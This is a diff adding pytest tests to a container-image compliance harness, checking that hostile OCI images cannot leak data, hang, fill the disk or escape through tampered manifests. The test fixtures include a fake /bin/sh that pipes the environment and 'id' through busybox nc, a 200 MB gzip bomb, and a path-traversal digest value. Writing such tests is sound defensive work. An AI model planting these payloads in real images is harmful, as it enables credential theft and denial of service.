@@ -7,6 +7,7 @@ from __future__ import annotations
 import base64
 import json
 import os
+import re
 import shutil
 import subprocess
 import tempfile
@@ -500,3 +501,249 @@ def test_an_oci_layout_with_several_images_needs_a_tag(tmp_path):
     assert facts.digest == first.digest and facts.config["User"] == "node"
     with pytest.raises(ImageError, match="holds no image tagged '3.0'"):
         load(parse_reference(f"oci:{tmp_path / 'layout'}:3.0"), tmp_path / "w3", LIMITS)
+
+
+# -- hostile images: nothing of them runs with the runner's privileges, and unpacking cannot be abused ---------
+
+def _shell(script: str) -> Callable[[list[LayerSpec], dict[str, Any]], None]:
+    """The image's /bin/sh replaced by `script`, run by the image's own busybox."""
+    return _with_layer(LayerSpec(files={"/bin/sh": "#!/bin/busybox sh\n" + script}, modes={"/bin/sh": 0o755},
+                                 created_by="COPY sh /bin/sh"))
+
+
+def test_a_hostile_shell_gets_no_network_no_credentials_and_no_root(tmp_path, monkeypatch):
+    """A /bin/sh that sends its environment and `id` to a listener on the runner's loopback, then behaves:
+    nothing arrives, it sees no AWS key and runs as uid 65534, and the image is still judged clean (IMG-01's
+    uid looked up through the sandbox)."""
+    import socket
+    import threading
+
+    from conftest import wait_for
+
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    received: list[bytes] = []
+
+    def accept() -> None:
+        while True:
+            try:
+                connection, _ = listener.accept()
+            except OSError:
+                return
+            with connection:
+                received.append(connection.recv(65536))
+
+    threading.Thread(target=accept, daemon=True).start()
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hostile-test-secret")
+    script = (f"{{ /bin/busybox env; /bin/busybox id; }} | /bin/busybox nc -w 1 127.0.0.1 {port}\n"
+              "{ /bin/busybox env; /bin/busybox id; } >&2\n"
+              "echo owned > /owned\n"
+              'exec /bin/busybox sh "$@"\n')
+    try:
+        facts = facts_of(build(tmp_path, _shell(script)), tmp_path)
+        root = tmp_path / "work-image" / "rootfs"
+        _, _, stderr = sandbox.run(root, ["/bin/sh", "-c", "true"])
+        with socket.create_connection(("127.0.0.1", port)) as own:  # the listener does take connections
+            own.sendall(b"control")
+        wait_for(lambda: received, 5, lambda: "the listener got nothing, not even the test's own connection")
+    finally:
+        listener.close()
+    assert received == [b"control"]  # the image's shell never reached the runner's loopback
+    seen = stderr.decode()
+    assert "uid=65534" in seen and "hostile-test-secret" not in seen and "AWS_" not in seen
+    assert sorted(line.split("=")[0] for line in seen.splitlines() if "=" in line and not line.startswith("uid")) \
+        == ["HOME", "LANG", "PATH", "PWD", "SHLVL"]
+    assert not (root / "owned").exists()  # the root is read-only
+    assert facts.command_error is None and facts.user == {"name": "node", "exists": True, "uid": 1000}
+    assert {rid: v.status for rid, v in verdicts(facts).items()} == {rid: "pass" for rid in JUDGES}
+
+
+def _processes_with(marker: str) -> list[int]:
+    import psutil
+
+    return [p.pid for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]
+
+
+def test_a_shell_that_never_returns_is_an_error_within_its_time_limit_leaving_no_process(tmp_path, monkeypatch):
+    monkeypatch.setattr(sandbox, "COMMAND_TIMEOUT_S", 2.0)
+    hang = _shell("/bin/busybox sleep 8641 &\nexec /bin/busybox sleep 8641\n")
+    import time
+    started = time.monotonic()
+    facts = facts_of(build(tmp_path, hang), tmp_path)
+    assert time.monotonic() - started < 15
+    assert "did not finish within 2 s in the image's sandbox; it was killed" in facts.command_error
+    assert _processes_with("sleep 8641") == []
+
+
+def test_a_hanging_shell_errors_the_checks_that_run_commands_alone(tmp_path, reports):
+    """End to end, at the default time limit: IMG-01, 03 and 06 need commands in the image and ERROR naming
+    the timeout; the checks of the config and the layer lists are judged as usual."""
+    layout = build(tmp_path, _shell("exec /bin/busybox sleep 8642\n"))
+    run = run_suite("--image", f"oci:{layout}", reports=reports, suite="compliance/test_image.py", timeout=180)
+    assert run.ids_with("error") == {"IMG-01", "IMG-03", "IMG-06"}, run.stdout[-3000:]
+    assert run.ids_with("pass") == {"IMG-02", "IMG-04", "IMG-05"}
+    assert "did not finish within 20 s" in run.message("IMG-01")
+    assert _processes_with("sleep 8642") == []
+
+
+def _bomb(size: int) -> bytes:
+    """An uncompressed layer tar holding one file of `size` zero bytes (a few hundred KiB once gzipped)."""
+    import io
+    import tarfile
+
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as tar:
+        info = tarfile.TarInfo("zeros")
+        info.size = size
+        tar.addfile(info, io.BytesIO(bytes(size)))
+    return out.getvalue()
+
+
+def test_a_gzip_bomb_stops_unpacking_before_the_disk_fills_and_fails_img03(tmp_path):
+    """200 MB of zeros, 0.2 MB as gzip, against a 50 MB limit: nothing of it is written, IMG-03 fails
+    "over 50 MB ..., stopped", what needs the whole image is not passed."""
+    from harness.image.unpack import Limits
+
+    layers, config = compliant()
+    write_layout(tmp_path / "bomb", [*layers, _bomb(200_000_000)], config)
+    facts = load(parse_reference(f"oci:{tmp_path / 'bomb'}"), tmp_path / "w", Limits(bytes=50_000_000))
+    written = sum(p.lstat().st_size for p in (tmp_path / "w" / "rootfs").rglob("*") if not p.is_symlink())
+    assert written < 5_000_000
+    assert facts.stopped == "over 50 MB uncompressed by layer 3 of 3, stopped"
+    found = verdicts(facts)
+    assert found["IMG-03"].status == "fail" and "over 50 MB uncompressed by layer 3 of 3, stopped" in found["IMG-03"].message
+    assert found["IMG-04"].status == "skip" and found["IMG-06"].status == "skip"
+    assert facts.not_run.startswith("the image was not fully unpacked")
+
+
+def test_the_unpack_limit_is_twice_the_plans_budget_and_at_most_4_gib():
+    assert unpack_limits(400).bytes == 800_000_000
+    assert unpack_limits(100_000).bytes == 4 << 30
+
+
+def _sparse_layer() -> bytes:
+    import io
+    import tarfile
+
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
+        info = tarfile.TarInfo("holes")
+        info.type = tarfile.GNUTYPE_SPARSE
+        tar.addfile(info)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("case, says", [
+    ("sparse", "holds a sparse file, holes, which is refused"),
+    ("entries", "over 500 entries"),
+    ("long name", "holds a name of 300 bytes, over the limit"),
+])
+def test_what_no_image_needs_is_refused_while_streaming(tmp_path, case, says):
+    from harness.image.unpack import Limits
+
+    layers, config = compliant()
+    extra = {"sparse": _sparse_layer(),
+             "entries": LayerSpec(files={f"/many/{i}": "" for i in range(500)}),
+             "long name": LayerSpec(files={"/" + "n" * 300: ""})}[case]
+    image = write_layout(tmp_path / "layout", [*layers, extra], config)
+    with pytest.raises(UnpackError, match=says):
+        unpack(image, tmp_path / "root", Limits(entries=500))
+
+
+def test_a_symlinked_directory_cannot_hide_a_file_from_the_checks(tmp_path):
+    """node_modules/x made a symlink to /app, then a .env written through it: judged where it lands, /app/.env,
+    not as a file of node_modules (which IMG-04 leaves to the content check)."""
+    link = LayerSpec(symlinks={"/app/node_modules/x": "/app"}, created_by="RUN ln -s /app node_modules/x")
+    through = LayerSpec(files={"/app/node_modules/x/.env": "DATABASE_PASSWORD=hunter2\n"}, parents=False,
+                        created_by="COPY . .")
+    facts = facts_of(build(tmp_path, lambda layers, config: layers.extend([link, through])), tmp_path)
+    verdict = judges.no_baked_secrets(facts, EXPECT["IMG-04"])
+    assert verdict.status == "fail" and "credential file /app/.env in layer 4" in verdict.message
+    assert "/app/.env" in facts.layers[3].files and "/app/node_modules/x/.env" not in facts.layers[3].files
+
+
+def test_a_hard_link_to_a_symlink_links_the_symlink_never_its_target(tmp_path, victim):
+    root = _unpack_crafted(tmp_path, LayerSpec(symlinks={"/l": str(victim / "sub" / "f")}),
+                           LayerSpec(hardlinks={"/h": "/l"}))
+    assert (root / "h").is_symlink() and os.readlink(root / "h") == str(victim / "sub" / "f")
+    assert (victim / "sub" / "f").stat().st_nlink == 1 and (victim / "sub" / "f").read_text() == "host file"
+
+
+def _rewrite_manifest(layout: Path, change: Callable[[dict[str, Any]], None]) -> None:
+    """Change the layout's manifest and store it again under its new digest (as a tamperer would)."""
+    import hashlib
+
+    index = json.loads((layout / "index.json").read_text())
+    descriptor = index["manifests"][0]
+    manifest_path = layout / "blobs" / "sha256" / descriptor["digest"].split(":")[1]
+    manifest = json.loads(manifest_path.read_text())
+    change(manifest)
+    raw = json.dumps(manifest).encode()
+    digest = hashlib.sha256(raw).hexdigest()
+    (layout / "blobs" / "sha256" / digest).write_bytes(raw)
+    descriptor.update(digest=f"sha256:{digest}", size=len(raw))
+    (layout / "index.json").write_text(json.dumps(index))
+
+
+def _layer_blob(layout: Path, n: int) -> Path:
+    index = json.loads((layout / "index.json").read_text())
+    manifest = json.loads((layout / "blobs" / "sha256" / index["manifests"][0]["digest"].split(":")[1]).read_text())
+    return layout / "blobs" / "sha256" / manifest["layers"][n]["digest"].split(":")[1]
+
+
+def _tamper(case: str, layout: Path) -> None:
+    if case == "digest as a path":
+        (layout.parent / "outside.tar").write_bytes(b"not for reading")
+        _rewrite_manifest(layout, lambda m: m["layers"][1].update(digest="sha256:../../../outside.tar"))
+    elif case == "layer changed":
+        blob = _layer_blob(layout, 1)
+        blob.write_bytes(gzip_of(b"\0" * 1024))
+    elif case == "config changed":
+        index = json.loads((layout / "index.json").read_text())
+        manifest = json.loads((layout / "blobs" / "sha256" / index["manifests"][0]["digest"].split(":")[1]).read_text())
+        config = layout / "blobs" / "sha256" / manifest["config"]["digest"].split(":")[1]
+        config.write_text(config.read_text().replace('"User": "node"', '"User": "nobody"'))
+    elif case == "diff_id of another layer":
+        layers, config = compliant()
+        other = write_layout(layout.parent / "other", [layers[0], LayerSpec(files={"/x": "y"})], config)
+        _rewrite_manifest(layout, lambda m: m.update(config=other.manifest["config"]))
+        for blob in (layout.parent / "other" / "blobs" / "sha256").iterdir():
+            shutil.copy(blob, layout / "blobs" / "sha256" / blob.name)
+
+
+def gzip_of(data: bytes) -> bytes:
+    import gzip
+
+    return gzip.compress(data, mtime=0)
+
+
+@pytest.mark.parametrize("case, says", [
+    ("digest as a path", "'sha256:../../../outside.tar' is not a sha256 digest"),
+    ("layer changed", "layer 2's blob does not match its digest"),
+    ("config changed", "does not match its digest: it was changed"),
+    ("diff_id of another layer", "layer 2's content does not match the config's diff_id"),
+])
+def test_a_tampered_layout_is_bad_input(tmp_path, case, says):
+    layout = build(tmp_path)
+    _tamper(case, layout)
+    with pytest.raises(ImageError, match=re.escape(says)):
+        load(parse_reference(f"oci:{layout}"), tmp_path / "w", LIMITS)
+    assert not (tmp_path / "w" / "rootfs").exists() or not any((tmp_path / "w" / "rootfs").iterdir())
+
+
+def test_a_tampered_image_exits_4_with_one_line(tmp_path, reports):
+    layout = build(tmp_path)
+    _tamper("layer changed", layout)
+    run = run_suite("--image", f"oci:{layout}", reports=reports, suite="compliance/test_image.py")
+    assert run.returncode == 4 and len(run.error_lines) == 1, run.stderr[-2000:]
+    assert "does not match its digest" in run.error_lines[0] and "Traceback" not in run.stderr + run.stdout
+
+
+@pytest.mark.parametrize("uri", ["oci:/etc", "docker-archive:/etc/passwd", "dir:/root", "/var/lib/image"])
+def test_a_task_definition_image_is_only_ever_a_registry_reference(uri):
+    session = ImageSession(lambda line: None, EXPECT["IMG-03"]["max_size_mb"])
+    try:
+        with pytest.raises(ImageError, match="is not a registry reference; refused"):
+            session.deployed(uri, Target("aws", "us-east-1"))
+    finally:
+        session.close()
